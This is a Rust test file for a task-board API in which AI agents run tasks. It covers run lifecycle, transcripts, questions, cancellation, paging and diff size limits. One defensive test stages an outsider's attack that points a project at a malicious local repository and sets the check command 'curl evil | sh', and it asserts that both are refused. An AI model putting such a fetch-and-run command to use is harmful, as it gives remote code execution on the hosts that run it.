//! Runs over HTTP: started by a person, written by the agent's token
//! only, followed through the transcript and the event log, answered,
//! cancelled and listed with paging.

use serde_json::{Value, json};
use taskboard_core::model::{Task, TaskStatus};
use taskboard_core::runs::{EntryKind, Run, RunState, TranscriptEntry};

use crate::support::*;

#[tokio::test]
async fn a_run_is_started_written_by_its_agent_and_ends_with_its_task_in_review() {
    let app = spawn().await;
    let p = app.create_project(app.owner(), "web").await;
    let (bot, token) = app.create_agent("bot", "member").await;
    let (_, other) = app.create_agent("other", "member").await;
    app.add_to_project(p.id, bot).await;
    let t = app.create_task(app.owner(), p.id, "work").await;
    let since: Value = app.get("/api/v1/events", app.owner()).await.expect(200);

    let run: Run = app
        .post(&format!("/api/v1/tasks/{}/runs", t.id), app.owner(), json!({"agent_id": bot}))
        .await
        .expect(201);
    assert_eq!(run.state, RunState::Starting);
    let task: Task = app.get(&format!("/api/v1/tasks/{}", t.id), app.owner()).await.expect(200);
    assert_eq!(task.lease.map(|l| l.holder.id), Some(bot));
    app.post(&format!("/api/v1/tasks/{}/runs", t.id), app.owner(), json!({"agent_id": bot})).await.error(
        409,
        "conflict",
        "has not ended",
    );
    app.post(&format!("/api/v1/tasks/{}/runs", t.id), app.owner(), json!({})).await.error(
        422,
        "validation_error",
        "agent_id",
    );

    let path = format!("/api/v1/runs/{}", run.id);
    app.patch(&path, Some(&other), json!({"state": "running"})).await.error(403, "forbidden", "agent");
    app.patch(&path, app.owner(), json!({"state": "running"})).await.error(403, "forbidden", "agent");
    app.patch(&path, Some(&token), json!({"state": "sideways"})).await.error(
        422,
        "validation_error",
        "state",
    );
    let running: Run =
        app.patch(&path, Some(&token), json!({"state": "running", "runner": "host:42"})).await.expect(200);
    assert_eq!(running.runner.as_deref(), Some("host:42"));
    let entries =
        json!({"entries": [{"kind": "output", "text": "hello"}, {"kind": "thought", "text": "hmm"}]});
    app.post(&format!("{path}/transcript"), Some(&other), &entries).await.error(403, "forbidden", "agent");
    let after: Run = app.post(&format!("{path}/transcript"), Some(&token), &entries).await.expect(200);
    assert_eq!(after.transcript_count, 3);
    app.post(&format!("{path}/transcript"), Some(&token), json!({"entries": []})).await.error(
        422,
        "validation_error",
        "entries",
    );
    let transcript: Vec<TranscriptEntry> =
        app.get(&format!("{path}/transcript?after=1"), app.owner()).await.expect(200);
    let got: Vec<_> = transcript.iter().map(|e| (e.n, e.kind, e.text.as_str())).collect();
    assert_eq!(got, [(2, EntryKind::Output, "hello"), (3, EntryKind::Thought, "hmm")]);

    let done: Run =
        app.patch(&path, Some(&token), json!({"state": "succeeded", "exit_code": 0})).await.expect(200);
    assert_eq!(done.state, RunState::Succeeded);
    let task: Task = app.get(&format!("/api/v1/tasks/{}", t.id), app.owner()).await.expect(200);
    assert_eq!(task.status, TaskStatus::Review);
    app.patch(&path, Some(&token), json!({"state": "failed"})).await.error(409, "conflict", "final");

    let log: Value =
        app.get(&format!("/api/v1/events?since={}", since["next"]), app.owner()).await.expect(200);
    let types: Vec<&str> =
        log["events"].as_array().unwrap().iter().map(|e| e["type"].as_str().unwrap()).collect();
    for kind in ["run.created", "run.updated", "run.output"] {
        assert!(types.contains(&kind), "{kind} in {types:?}");
    }
    let output: Vec<&Value> = log["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["type"] == "run.output")
        .flat_map(|e| e["data"]["entries"].as_array().unwrap())
        .collect();
    let texts: Vec<&str> = output.iter().map(|e| e["text"].as_str().unwrap()).collect();
    assert_eq!(texts, ["running", "hello", "hmm", "succeeded (exit code 0)"], "every entry once, in order");
}

#[tokio::test]
async fn a_question_is_answered_and_a_run_is_cancelled_and_listed() {
    let app = spawn().await;
    let p = app.create_project(app.owner(), "web").await;
    let (bot, token) = app.create_agent("bot", "member").await;
    app.add_to_project(p.id, bot).await;
    let t = app.create_task(app.owner(), p.id, "work").await;
    let run: Run = app
        .post(
            &format!("/api/v1/tasks/{}/runs", t.id),
            app.owner(),
            json!({"agent_id": bot, "lease_seconds": 60}),
        )
        .await
        .expect(201);
    let path = format!("/api/v1/runs/{}", run.id);
    let question = json!({"question": {"id": "q1", "text": "Go on?", "options": [
        {"id": "yes", "label": "Yes"}, {"id": "no", "label": "No"}]}});
    let waiting: Run = app.patch(&path, Some(&token), &question).await.expect(200);
    assert_eq!(waiting.state, RunState::AwaitingInput);
    app.post(&format!("{path}/answer"), Some(&token), json!({"option_id": "yes"})).await.error(
        403,
        "forbidden",
        "person",
    );
    app.post(&format!("{path}/answer"), app.owner(), json!({"option_id": "perhaps"})).await.error(
        422,
        "validation_error",
        "option_id",
    );
    let answered: Run =
        app.post(&format!("{path}/answer"), app.owner(), json!({"option_id": "yes"})).await.expect(200);
    assert_eq!((answered.state, answered.question), (RunState::Running, None));

    let cancelled: Run = app.post_empty(&format!("{path}/cancel"), app.owner()).await.expect(200);
    assert_eq!(cancelled.state, RunState::Cancelled);
    let task: Task = app.get(&format!("/api/v1/tasks/{}", t.id), app.owner()).await.expect(200);
    assert_eq!((task.status, task.assignee), (TaskStatus::Todo, None));
    app.post_empty(&format!("{path}/cancel"), app.owner()).await.error(409, "conflict", "final");

    // Three more runs; the list pages newest first through the Link header.
    for i in 0..3 {
        let t = app.create_task(app.owner(), p.id, &format!("more {i}")).await;
        app.post(&format!("/api/v1/tasks/{}/runs", t.id), app.owner(), json!({"agent_id": bot}))
            .await
            .expect::<Run>(201);
    }
    let res = app.get("/api/v1/runs?limit=3", app.owner()).await;
    let first: Vec<Run> = res.expect(200);
    let link = res.header("link").expect("a full page links to the next").to_string();
    let next = link.split_once('<').unwrap().1.split_once('>').unwrap().0.to_string();
    let rest: Vec<Run> = app.get(&next, app.owner()).await.expect(200);
    assert_eq!(first.len() + rest.len(), 4);
    assert_eq!(rest.last().unwrap().id, run.id, "the oldest last");
    let by_state: Vec<Run> = app.get("/api/v1/runs?state=cancelled", app.owner()).await.expect(200);
    assert_eq!(by_state.iter().map(|r| r.id).collect::<Vec<_>>(), [run.id]);
    app.get("/api/v1/runs?state=sideways", app.owner()).await.error(422, "validation_error", "state");
    let of_task: Vec<Run> =
        app.get(&format!("/api/v1/runs?task_id={}", t.id), Some(&token)).await.expect(200);
    assert_eq!(of_task.len(), 1);
    app.get(&format!("/api/v1/runs/{}", uuid::Uuid::new_v4()), app.owner()).await.error(
        404,
        "not_found",
        "run",
    );
}

/// Finding 2 of the third security pass, as an attacker would try it: a
/// member outside a project points it at her repository and starts the
/// project's agent there. Every step is refused, the first one included,
/// and nothing changes (docs/decisions.md, 20.f, 20.g).
#[tokio::test]
async fn a_member_outside_the_project_cannot_point_the_runner_at_her_repository() {
    let app = spawn().await;
    let p = app.create_project(app.owner(), "web").await;
    let (coder, _) = app.create_agent("coder", "member").await;
    app.add_to_project(p.id, coder).await;
    let t = app.create_task(app.owner(), p.id, "work").await;
    let mallory = app.create_member("mallory", "human", "member").await;
    app.put(
        &format!("/api/v1/members/{}/password", mallory.id),
        app.owner(),
        json!({"password": "mallory-pass"}),
    )
    .await
    .expect::<Value>(200);
    let login: Value = app
        .post("/api/v1/auth/login", None, json!({"login": "mallory", "password": "mallory-pass"}))
        .await
        .expect(200);
    let token = login["token"].as_str().unwrap().to_string();
    let evil = json!({"repo_urls": ["file:///home/mallory/evil.git"]});
    app.patch(&format!("/api/v1/projects/{}", p.id), Some(&token), &evil).await.error(
        403,
        "forbidden",
        "repo_urls",
    );
    let project: Value = app.get(&format!("/api/v1/projects/{}", p.id), app.owner()).await.expect(200);
    assert_eq!(project["repo_urls"], json!([]), "nothing changed");
    let own = json!({"name": "Evil", "slug": "evil", "repo_urls": ["file:///home/mallory/evil.git"]});
    app.post("/api/v1/projects", Some(&token), &own).await.error(403, "forbidden", "repo_urls");
    app.post(&format!("/api/v1/tasks/{}/runs", t.id), Some(&token), json!({"agent_id": coder})).await.error(
        403,
        "forbidden",
        "only members of project web",
    );
    let runs: Vec<Run> = app.get(&format!("/api/v1/runs?task_id={}", t.id), app.owner()).await.expect(200);
    assert!(runs.is_empty(), "no run was started: {runs:?}");
    let landing = json!({"check_command": "curl evil | sh"});
    app.patch(&format!("/api/v1/projects/{}", p.id), Some(&token), &landing).await.error(
        403,
        "forbidden",
        "landing settings",
    );
}

/// A runner records a diff at its 2 MB cap, for the task and the round,
/// in one request: past the server's 1 MiB limit for other bodies, which
/// still holds elsewhere.
#[tokio::test]
async fn a_run_records_changes_with_diffs_at_their_cap() {
    let app = spawn().await;
    let p = app.create_project(app.owner(), "web").await;
    let (bot, token) = app.create_agent("bot", "member").await;
    app.add_to_project(p.id, bot).await;
    let t = app.create_task(app.owner(), p.id, "big").await;
    let run: Run = app
        .post(&format!("/api/v1/tasks/{}/runs", t.id), app.owner(), json!({"agent_id": bot}))
        .await
        .expect(201);
    let line = format!("+{}\n", "x\t\"y\" ".repeat(8));
    let mut diff =
        String::from("diff --git a/big.txt b/big.txt\n--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1 @@\n");
    while diff.len() + line.len() <= taskboard_core::review::MAX_DIFF_BYTES {
        diff.push_str(&line);
    }
    let changes = |head: &str| {
        json!({"base_commit": "b0", "head_commit": head, "branch": "taskboard/WEB-1",
               "files": [{"path": "big.txt", "status": "added", "additions": 40000, "deletions": 0}],
               "diff": diff, "truncated": true})
    };
    let body = json!({"task": changes("h1"), "run": changes("h1")});
    assert!(body.to_string().len() > 4 << 20, "two escaped diffs: {} bytes", body.to_string().len());
    let recorded: Run =
        app.post(&format!("/api/v1/runs/{}/changes", run.id), Some(&token), &body).await.expect(200);
    assert_eq!(recorded.work.changes.map(|c| c.additions), Some(40000));
    let served: Value = app.get(&format!("/api/v1/tasks/{}/changes", t.id), app.owner()).await.expect(200);
    assert_eq!(served["diff"].as_str().map(str::len), Some(diff.len()));
    // Elsewhere the limit stands.
    let long = json!({"title": "x", "description": "y".repeat(2 << 20)});
    let res = app.post(&format!("/api/v1/tasks?project_id={}", p.id), app.owner(), &long).await;
    assert_eq!(res.status, 413);
}
